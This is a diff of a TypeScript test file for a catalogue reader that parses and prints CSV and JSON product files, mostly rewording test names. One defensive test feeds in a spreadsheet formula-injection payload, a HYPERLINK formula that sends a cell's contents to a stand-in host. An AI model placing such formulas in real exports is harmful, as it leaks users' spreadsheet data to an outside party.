@@ -44,7 +44,7 @@ const withDefaults = {
 };
 
 describe('the rows of a file', () => {
-  it('are all checked, and all their problems are told, in the order of the lines', () => {
+  it('are all checked, and all their problems are reported, in the order of the lines', () => {
     const text = '[\n{"id": 1},\n{"id": }\n,{"price": -1}]';
     const { problems } = readCatalogueFile(text, 'json');
     const count = (line: number) => problems.filter((problem) => problem.line === line).length;
@@ -63,7 +63,7 @@ describe('the rows of a file', () => {
     );
   });
 
-  it('may not use an id twice, also where something else is wrong with one', () => {
+  it('may not use an id twice, even if another field is wrong', () => {
     const twice = ['4: id 7 stands on line 2 and again on line 4.'];
     assert.deepEqual(messages(readCsv(csvHeader, csvRow, '', csvRow)), twice);
     const wrong = csvRow.replace('9000', 'x');
@@ -84,7 +84,7 @@ describe('the rows of a file', () => {
     ]);
   });
 
-  it('may be none, but the file may not be empty', () => {
+  it('may be absent, but the file may not be empty', () => {
     assert.deepEqual(readCatalogueFile('[]', 'json'), { products: [], problems: [] });
     assert.deepEqual(readCsv(csvHeader), { products: [], problems: [] });
     for (const format of formats) {
@@ -96,7 +96,7 @@ describe('the rows of a file', () => {
 });
 
 describe('a CSV file', () => {
-  it('gives the defaults where columns are missing or cells empty', () => {
+  it('uses the defaults for missing columns or empty cells', () => {
     assert.deepEqual(readCsv(csvHeader, csvRow), { products: [withDefaults], problems: [] });
     const read = readCsv(`${csvHeader},score,created_at`, `${csvRow},,`);
     assert.deepEqual(read, { products: [withDefaults], problems: [] });
@@ -117,7 +117,7 @@ describe('a CSV file', () => {
     assert.deepEqual(readCatalogueFile(text, 'csv'), { products: [withDefaults], problems: [] });
   });
 
-  it('holds JSON in some columns, and text that is not JSON stands for itself', () => {
+  it('holds JSON in some columns, and other text is plain text', () => {
     const header = `${csvHeader},dimension,options,third_party_id,capacity,categories`;
     const cells = '"{""a"":[1]}",null,"AB-12, 3",10,"[{""id"":3,""name"":""a""}]"';
     const [read] = readCsv(header, `${csvRow},${cells}`).products;
@@ -133,7 +133,7 @@ describe('a CSV file', () => {
     );
   });
 
-  it('tells of columns that are unknown, nameless or there twice, at the header', () => {
+  it('reports unknown, nameless or duplicate columns, at the header', () => {
     assert.deepEqual(messages(readCsv('', `${csvHeader},prise,,id`, `${csvRow},1,2,3`)), [
       '2: The column "prise" is not known. Is it misspelt?',
       '2: Column 8 has no name.',
@@ -141,14 +141,14 @@ describe('a CSV file', () => {
     ]);
   });
 
-  it('tells of rows with too few or too many cells', () => {
+  it('reports rows with too few or too many cells', () => {
     assert.deepEqual(messages(readCsv(csvHeader, '1,2', csvRow, `${csvRow},`)), [
       '2: This row has 2 cells, and the header has 6.',
       '4: This row has 7 cells, and the header has 6.',
     ]);
   });
 
-  it('tells where quoting is broken, and reads the rows around it', () => {
+  it('reports broken quoting, and reads the rows around it', () => {
     const opened = csvRow.replace('بسته', 'a "b" c');
     assert.deepEqual(messages(readCsv(csvHeader, csvRow, opened, csvRow.replace('7', 'x'))), [
       '3: The cell that begins on this line holds a quote but is not quoted. Quote it, and double the quotes inside.',
@@ -169,7 +169,7 @@ describe('a CSV file', () => {
 });
 
 describe('the format of a file', () => {
-  it('is told by its extension', () => {
+  it('follows from its extension', () => {
     assert.equal(catalogueFormat('a.b/c.json'), 'json');
     assert.equal(catalogueFormat('A.CSV'), 'csv');
     for (const name of ['json', 'a.jsonl', 'a.csv.gz', '']) {
@@ -192,7 +192,7 @@ describe('a printed file', () => {
     assert.equal(header?.trimEnd().split(',').length, 26);
   });
 
-  it('holds no formula that a spreadsheet would compute, and is read as it was', () => {
+  it('holds no formula that a spreadsheet would evaluate, and reads back unchanged', () => {
     const formula = '=HYPERLINK("http://example.invalid/?x="&A1)';
     for (const text of [formula, '+1 GB', '-1', '@a', '\tx', "'=1", "''+1", "'a", '=']) {
       const { products } = readJson({ ...least, name: text, name_en: text, options: text });
@@ -202,7 +202,7 @@ describe('a printed file', () => {
     }
   });
 
-  it('keeps a time that is null in JSON; CSV has no such thing', () => {
+  it('keeps a time that is null in JSON; CSV cannot express it', () => {
     const products = readJson({ ...least, created_at: null }).products;
     const read = (format: 'json' | 'csv') =>
       readCatalogueFile([...printCatalogue(products, format)].join(''), format).products;
